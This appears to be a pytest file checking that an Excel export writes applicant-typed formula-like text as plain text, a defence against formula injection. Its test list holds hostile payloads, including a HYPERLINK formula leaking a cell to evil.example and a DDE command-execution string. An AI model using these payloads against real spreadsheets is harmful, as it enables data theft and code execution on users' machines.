"""Excel exports: applicant text that looks like a formula is written as text (formula
injection, 等保 issue 16 item 8), read back from the saved file's XML."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook

from eap.services.core.exports import to_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_typed_by_an_applicant_stays_text(text: str) -> None:
    data = to_xlsx(title="咨询", filters="全部", headers=["主题", "数量"], rows=[[text, 3]])
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere in the sheet
    cell = load_workbook(io.BytesIO(data)).active["A4"]
    assert cell.value == text and cell.data_type == "s"
    assert load_workbook(io.BytesIO(data)).active["B4"].value == 3  # numbers stay numbers


def test_ordinary_text_and_negative_numbers_are_untouched() -> None:
    data = to_xlsx(title="t", filters="", headers=["a", "b"], rows=[["南昌市某项目", -5]])
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["A4"].value == "南昌市某项目" and ws["B4"].value == -5
